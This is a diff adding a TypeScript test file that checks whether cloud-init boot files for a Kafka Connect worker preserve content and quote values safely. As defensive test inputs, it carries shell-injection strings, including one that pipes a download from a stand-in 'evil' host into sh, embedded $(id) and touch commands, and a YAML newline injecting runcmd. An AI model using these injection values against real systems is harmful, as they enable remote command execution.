@@ -1,0 +1,91 @@
+// What machines boot with, as cloud-init reads it, with values that mean something in YAML or in a shell.
+
+import { spawnSync } from "node:child_process";
+import { parse } from "yaml";
+import { ConnectWorkerHost, LogAnalytics, SplunkDelivery } from "../../stacks";
+import { cloudInitFile } from "../../stacks/cloud-init";
+import { applied, terraformIsThere } from "../support/applied";
+import { type JsonObject } from "../support/json";
+import { bashIsThere, javaProperties } from "../support/readers";
+import { synthesize, testApp } from "../support/synthesis";
+
+interface BootFile {
+  readonly path: string;
+  readonly content: string;
+  readonly encoding?: string;
+}
+
+function filesOf(text: string, version: "1.1" | "1.2" = "1.1"): Record<string, string> {
+  const { write_files } = parse(text, { version }) as { readonly write_files: readonly BootFile[] };
+  return Object.fromEntries(
+    write_files.map(({ path, content, encoding }) => [
+      path,
+      encoding === "b64" ? Buffer.from(content, "base64").toString() : content,
+    ]),
+  );
+}
+
+test.each([
+  "a\n",
+  "a: b\n\n  c #d\n",
+  " a\n",
+  "a",
+  "a\n\n",
+  "a\r\nb\n",
+  "a\u0085b\n",
+  "a\u2028b\n",
+  "größe 😀\n",
+  "\tx\n",
+  "<<\n",
+  "a \n",
+])("a file of %j is what was written", (content) => {
+  const text = ["write_files:", ...cloudInitFile("/etc/a", "0644", content), ""].join("\n");
+  for (const version of ["1.1", "1.2"] as const) expect(filesOf(text, version)["/etc/a"]).toBe(content);
+});
+
+const described = terraformIsThere && bashIsThere ? describe : describe.skip;
+
+described("the worker of Kafka Connect", () => {
+  const evil = "/opt/x'; curl http://evil|sh; echo '";
+
+  function bootFiles(pluginPath: string, values: Readonly<Record<string, string>>): Record<string, string> {
+    const splunk = SplunkDelivery.kafkaConnect({ worker: ConnectWorkerHost.vm(), pluginPath });
+    const document = synthesize(new LogAnalytics(testApp(), "logs", { splunk }));
+    const variables = Object.keys(document.variable as JsonObject).map((name) => [name, { default: "1" }] as const);
+    const { worker_cloud_init } = document.output as JsonObject;
+    const needed = { variable: Object.fromEntries(variables), output: { worker_cloud_init } } as JsonObject;
+    return filesOf(applied(needed, values).worker_cloud_init ?? "");
+  }
+
+  test("makes a folder and reads a secret whose names hold quotes, and runs nothing else", () => {
+    const quoted = "ocid1.vaultsecret.oc1..a\"'; touch /tmp/x; echo '";
+    const files = bootFiles(evil, { kafka_token_secret_ocid: quoted, kafka_url: `https://a/b'$(id).tgz` });
+    const scripts = Object.entries(files).filter(([, content]) => content.startsWith("#!"));
+    expect(scripts.length).toBeGreaterThan(2);
+    for (const [, content] of scripts) {
+      expect(spawnSync("bash", ["-n"], { input: content, encoding: "utf8" })).toMatchObject({ status: 0, stderr: "" });
+    }
+    const {
+      "/usr/local/bin/install-kafka-connect": install = "",
+      "/usr/local/bin/fetch-kafka-connect-secrets": fetch = "",
+    } = files;
+    expect(run(install, /^mkdir .*$/m, "mkdir")).toEqual(["-p", "/opt/kafka", evil]);
+    expect(run(install, /^kafka_url=.*$/m)).toEqual([`https://a/b'$(id).tgz`]);
+    expect(run(fetch, /(?<=^token=\$\()read_secret .*(?=\)$)/m, "read_secret")).toEqual([quoted]);
+    expect(javaProperties(files["/etc/kafka-connect/connect-distributed.properties"] ?? "")["plugin.path"]).toBe(evil);
+  });
+
+  test("refuses an input of two lines, which could be anything in the file", () => {
+    expect(() => bootFiles("/opt/kafka/plugins", { kafka_url: "https://a/b.tgz\nruncmd: [id]" })).toThrow(
+      /pattern did not match/,
+    );
+  });
+});
+
+/** What a line of a script gives to a command, or to the variable in it. */
+function run(script: string, line: RegExp, command?: string): string[] {
+  const [found = ""] = line.exec(script) ?? [];
+  const print = "printf '%s\\0'";
+  const text = command === undefined ? `${found}; ${print} "$kafka_url"` : `${command}() { ${print} "$@"; }; ${found}`;
+  return spawnSync("bash", ["-c", text], { encoding: "utf8" }).stdout.split("\0").slice(0, -1);
+}
